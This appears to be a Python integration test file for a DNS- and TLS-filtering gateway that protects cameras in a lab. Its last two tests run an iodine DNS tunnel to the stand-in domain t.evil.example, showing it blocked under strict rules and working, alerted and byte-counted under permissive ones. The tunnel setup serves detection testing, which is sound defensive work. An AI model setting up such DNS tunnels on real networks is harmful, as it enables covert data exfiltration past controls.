# SPDX-License-Identifier: GPL-2.0-or-later
"""Names and questions, with a real resolver, real clients and a real tunnel."""

import contextlib
import http.server
import os
import shutil
import socket
import ssl
import subprocess
import threading
import time

from capture import Capture
from daemon import wait_for
from lab import FAR_V4, GATEWAY_V4, GATEWAY_V6
from netcase import CN, NO, check, gateway, policy, tests
from result import Skip
from traffic import connect, udp

import dnswords

GOOD = {"www.good.example": NO, "other.good.example": CN}
TUNNEL = "t.evil.example"
FAR_RESOLVER = NO  # a DNS server in the internet, on these addresses

RULES = """\
rules:
  - {name: names, from: cameras, to: {address: ["10.20.0.1", "fd20::1"]}, port: 53, protocol: dns, query: [QUERIES], action: allow}
  - {name: far-names, from: cameras, to: {country: "NO"}, port: 53, protocol: dns, query: [QUERIES], action: allow}
  - {name: spies, from: cameras, to: any, port: 53, protocol: dns, query: ["*.spy.example"], action: reject}
  - {name: cloud, from: cameras, to: {name: ["www.good.example"]}, port: [tcp/80, tcp/443], protocol: [http, tls], action: allow}
default: {action: block, alert: medium}
"""


def rules(queries='"*.good.example", "good.example"'):
    return RULES.replace("QUERIES", queries)


class Wire(Capture):
    """Keeps the frames, to look for words in them."""

    snap = 2048

    def __init__(self, *arguments):
        self.frames = []
        super().__init__(*arguments)

    def take(self, frame, where):
        self.frames.append(frame.lower())

    def holds(self, name):
        """Frames with this name as DNS writes it."""
        time.sleep(0.06)
        return sum(dnswords.wire(name)[:-1] in f for f in list(self.frames))


def need(*programs):
    for p in programs:
        if not shutil.which(p):
            raise Skip(f"{p} is not installed")


def dnsmasq(ns, probe, *words):
    """Starts one and waits until it listens at `probe`."""
    # Neither user nor groups are changed: a user namespace would refuse.
    ns.start("dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv", "--no-hosts", "--user=root", "--group=", "--pid-file=",
             "--bind-dynamic", "--log-facility=/dev/null", *words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def listens():
        s, _ = connect(ns, probe, 53, 0.3)
        if s:
            s.close()
        return s
    wait_for(listens, 5, "dnsmasq does not listen")


@contextlib.contextmanager
def place(text):
    """(lab, daemon): a DNS server in the internet, and the gateway's own resolver that asks it."""
    need("dnsmasq", "dig")
    with gateway(text) as (lab, d):
        records = [f"--address=/{name}/{a}" for name, pair in GOOD.items() for a in pair]
        dnsmasq(lab.internet, NO[0], "--listen-address=" + ",".join(NO), *records, "--address=/#/192.0.2.99")
        dnsmasq(lab.gateway, "127.0.0.1", "--interface=cam0", f"--server={NO[0]}", f"--server=/evil.example/{FAR_V4}")
        yield lab, d


def dig(ns, server, name, *words, seconds=1):
    """The answers in short form, one a line; "" for none."""
    return ns.run("dig", f"@{server}", "+short", "+tries=1", f"+time={seconds}", *words, name, check=False, timeout=20).strip()


WAYS = [(words, kind) for words in ((), ("+tcp",)) for kind in ("A", "AAAA")]


def ask_everything(lab, d, servers):
    """Each way to ask: the good name is answered, the other one leaves no trace behind the gateway."""
    with Wire(lab.internet, "eth0") as wire:
        for server in servers:
            for words, kind in WAYS:
                want = GOOD["www.good.example"][kind == "AAAA"]
                got = dig(lab.camera, server, "www.good.example", "-t", kind, *words)
                check(got == want, f"{server} {words} {kind}: {got!r}, expected {want}\n{d.log()}")
                got = dig(lab.camera, server, f"secret-{kind}.bad.example".lower(), "-t", kind, *words)
                check(all(line.startswith(";;") for line in got.splitlines()), f"{server} {words}: answered {got!r}")
        check(wire.holds("www.good.example") > 0, "the capture does not see the good questions either")
        check(wire.holds("bad.example") == 0 and wire.lost() == 0, f"{wire.holds('bad.example')} frames hold the bad name")
        return len(wire.frames)


@tests.add("the gateway's own resolver: good names are answered over UDP and TCP, IPv4 and IPv6, a bad one is not even asked for")
def names_gateway():
    with place(policy(rules())) as (lab, d):
        ask_everything(lab, d, (GATEWAY_V4, GATEWAY_V6))
        d.wait_record("dns", "dns.type=answer", "dns.rrname=www.good.example", "dns.answers.0.rdata=" + NO[0], "proto=UDP", "lenscap.rule=names")
        d.wait_record("dns", "dns.type=answer", "dns.rrname=www.good.example", "proto=TCP", count=4)
        d.wait_record("dns", "dns.type=query", "dns.rrname=secret-a.bad.example", "lenscap.decision=block", count=2)
        d.wait_record("alert", "alert.signature~asks for secret-a.bad.example", "lenscap.rule=default")
        # The gateway's own questions and those of its loopback are none of our business.
        check(dig(lab.gateway, "127.0.0.1", "secret.bad.example") == "192.0.2.99", "the gateway itself is not answered")


@tests.add("a DNS server behind the gateway: the same")
def names_forward():
    with place(policy(rules())) as (lab, d):
        frames = ask_everything(lab, d, FAR_RESOLVER)
        d.wait_record("dns", "dns.type=answer", "dns.rrname=www.good.example", "lenscap.rule=far-names")
        return f"{frames} frames on the far side"


@tests.add("a rejected question is told at once; a blocked one is met with silence")
def names_reject():
    with place(policy(rules())) as (lab, d):
        for server in (GATEWAY_V4, GATEWAY_V6, *FAR_RESOLVER):
            start = time.monotonic()
            got = udp(lab.camera, server, 53, dnswords.question("x.spy.example"), 1.0)
            check(got in ("prohibited", "unreachable") and time.monotonic() - start < 0.8, f"{server}: {got}")
            check(udp(lab.camera, server, 53, dnswords.question("x.bad.example"), 0.3) == "timeout", f"{server}: not silent")
            check(udp(lab.camera, server, 53, dnswords.question("www.good.example")) == "answered", f"{server}: not answered")
        d.wait_record("alert", "lenscap.rule=spies", count=4)


@tests.add("questions of one socket are judged one by one, and none makes the others settle")
def names_one_socket():
    with place(policy(rules())) as (lab, d), lab.camera.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.4)
        s.connect((GATEWAY_V4, 53))
        answered = 0
        for n in range(40):
            s.send(dnswords.question(f"n{n}.bad.example" if n % 2 else f"n{n}.good.example", f"id={n + 1}"))
            if n % 2 == 0:
                answered += s.recv(512)[:2] == (n + 1).to_bytes(2, "big")
        check(answered == 20, f"{answered} of 20 good questions were answered")
        d.wait_record("dns", "dns.type=query", "dns.rrname~bad.example", "lenscap.decision=block", count=20)
        check(not d.records("dns", "dns.type=answer", "dns.rrname~bad.example"), "a bad question was answered")


def key_and_certificate(d):
    path = d.path("server.pem")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", path, "-out",
                    path + ".crt", "-days", "2", "-subj", "/CN=www.good.example"], check=True, capture_output=True, timeout=20)
    return path, path + ".crt"


class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()

    def log_message(self, *_):
        pass


class Web(http.server.ThreadingHTTPServer):
    """Each connection in a thread of its own: one whose camera was cut off waits for ever."""

    address_family, daemon_threads = socket.AF_INET6, True

    def __init__(self, ns, port, certificate=None):
        super().__init__(("::", port), Page, bind_and_activate=False)
        self.socket.close()
        self.socket = ns.socket(socket.AF_INET6, socket.SOCK_STREAM)
        if certificate:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(*certificate)
            self.socket = context.wrap_socket(self.socket, server_side=True, do_handshake_on_connect=False)
        self.server_bind()
        self.server_activate()
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def server_bind(self):
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        self.socket.bind(self.server_address)
        self.server_name, self.server_port = "www.good.example", self.server_address[1]

    def handle_error(self, *_):
        pass

    def __exit__(self, *_):
        self.shutdown()
        self.server_close()


@contextlib.contextmanager
def web(lab, d):
    need("curl", "openssl")
    key, certificate = key_and_certificate(d)
    with Web(lab.internet, 80), Web(lab.internet, 443, (certificate, key)):
        yield


def curl(lab, d, url, *words):
    """Of a camera whose resolver is the gateway: (exit code, HTTP status)."""
    path = d.path("resolv.conf")
    with open(path, "w") as f:
        f.write(f"nameserver {GATEWAY_V4}\noptions timeout:1 attempts:1\n")
    script = 'mount --bind "$0" /etc/resolv.conf && exec curl "$@"'
    p = subprocess.run(lab.camera.command("unshare", "-m", "sh", "-c", script, path, "-k", "-s", "-o", "/dev/null", "-m", "4", "-w",
                                          "%{http_code}", *words, url), capture_output=True, text=True, timeout=15, stdin=subprocess.DEVNULL)
    check("mount" not in p.stderr, p.stderr)
    return p.returncode, p.stdout


@tests.add("a name rule and curl: refused before the name was asked for, allowed with it, reset when the client says another name")
def names_curl():
    with place(policy(rules())) as (lab, d), web(lab, d):
        for family, address in (("-4", NO[0]), ("-6", f"[{NO[1]}]")):
            known = f"www.good.example:443:{address}"
            code, _ = curl(lab, d, "https://www.good.example/", "--resolve", known, "-m", "0.5")
            check(code == 28, f"{family} without a question: curl's exit code {code}, expected 28 (time is over)")
            start = time.monotonic()
            wait_for(lambda f=family: curl(lab, d, "https://www.good.example/", f) == (0, "200"), 5, f"{family}: the name does not open the way")
            took = time.monotonic() - start
            check(curl(lab, d, "http://www.good.example/", family) == (0, "200"), f"{family}: plain HTTP")
            check(curl(lab, d, "https://www.good.example/", "--resolve", known) == (0, "200"), f"{family}: the name is known by now")
            code, _ = curl(lab, d, "https://lies.example/", "--resolve", f"lies.example:443:{address}")
            check(code in (35, 56), f"{family} another name: curl's exit code {code}, expected a reset")
        d.wait_record("alert", "alert.signature_id=1990003", "alert.signature~lies.example", count=2)
        d.wait_record("tls", "tls.sni=www.good.example", "lenscap.rule=cloud", "lenscap.dest.name=www.good.example", count=4)
        d.wait_record("http", "http.hostname=www.good.example", count=2)
        code, _ = curl(lab, d, "https://other.good.example/")
        check(code == 28, f"a name that no rule wants: {code}")
        return f"after a refusal the answer opened the way within {took:.1f} s"


@tests.add("a name that one camera was told is none for its neighbour")
def names_per_device():
    with place(policy(rules())) as (lab, d), web(lab, d):
        one, two = lab.cameras.values()
        check(dig(one, GATEWAY_V4, "www.good.example") == NO[0], "no answer")
        s, how = connect(one, NO[0], 443)
        check(s, f"the camera that asked: {how}")
        s.close()
        check(connect(two, NO[0], 443, 0.4)[1] == "timeout", "the camera that did not ask is let through")


# iodine: IP in DNS questions, as Debian ships it.

def tunnel_server(lab):
    need("iodine", "iodined")
    if not os.access("/dev/net/tun", os.R_OK | os.W_OK):
        raise Skip("/dev/net/tun cannot be opened")
    p = lab.internet.start("iodined", "-f", "-c", "-P", "secret", "-l", FAR_V4, "10.99.0.1", TUNNEL, stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL)
    wait_for(lambda: "10.99.0.1" in lab.internet.run("ip", "-4", "addr") or p.poll() is not None, 5, "iodined has no tunnel device")
    check(p.poll() is None, f"iodined ended with {p.poll()}")


def tunnel_client(lab, d):
    log = open(d.path("iodine.log"), "wb")
    return lab.camera.start("iodine", "-f", "-r", "-P", "secret", GATEWAY_V4, TUNNEL, stdout=log, stderr=log)


def tunnel_says(d):
    with open(d.path("iodine.log"), errors="replace") as f:
        return f.read()


def has_tunnel(lab):
    return "10.99.0." in lab.camera.run("ip", "-4", "addr")


@tests.add("an iodine tunnel through the gateway's own resolver ends at its first question when only good names may be asked for")
def names_tunnel_blocked():
    with place(policy(rules())) as (lab, d):
        tunnel_server(lab)
        with Wire(lab.internet, "eth0") as wire:
            p = tunnel_client(lab, d)
            time.sleep(6)
            check(not has_tunnel(lab), f"the tunnel is up\n{tunnel_says(d)}")
            p.kill()
            check(wire.holds("evil.example") == 0 and wire.lost() == 0, f"{wire.holds('evil.example')} of its questions left")
        d.wait_record("alert", "lenscap.rule=default", "alert.signature~asks for .*evil.example")
        asked = d.records("dns", "dns.type=query", "dns.rrname~evil.example", "lenscap.decision=block")
        check(d.stop() == 0 and asked, "no question of the tunnel was recorded")
        stats = d.records("stats")[-1]["lenscap"]["stats"]
        check(stats["dns_blocked"] >= len(asked) and stats["dns_bytes_blocked"] > 20 * len(asked), f"{stats}")
        return f"{stats['dns_blocked']} questions of {stats['dns_bytes_blocked']} bytes blocked; iodine says: {tunnel_says(d).split(chr(10))[-2]!r}"


@tests.add("where any name may be asked for, the iodine tunnel works, is alerted while it does, and its bytes are counted")
def names_tunnel_told():
    with place(policy(rules('"*"'))) as (lab, d):
        tunnel_server(lab)
        start = time.monotonic()
        tunnel_client(lab, d)
        wait_for(lambda: has_tunnel(lab), 20, "the tunnel does not come up")
        up = time.monotonic() - start
        wait_for(lambda: "0 received" not in lab.camera.run("ping", "-c", "1", "-W", "2", "10.99.0.1", check=False), 10, "nothing passes")
        with lab.camera.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            for _ in range(40):
                s.sendto(os.urandom(600), ("10.99.0.1", 9))
                time.sleep(0.02)
        alert = d.wait_record("alert", "alert.signature_id=1990008", f"alert.signature~{TUNNEL}", seconds=15)[0]
        check(alert["lenscap"]["device"]["name"] == "cam-1" and alert["alert"]["severity"] == 1, f"{alert}")
        told = time.monotonic() - start
        time.sleep(1)
        d.stop()
        out = max(f["flow"]["bytes_toserver"] for f in d.records("flow", f"dest_ip={GATEWAY_V4}", "dest_port=53"))
        check(out > 10000, f"only {out} bytes are counted")
        return f"up after {up:.1f} s, alert within {told:.1f} s, {out} bytes out counted"
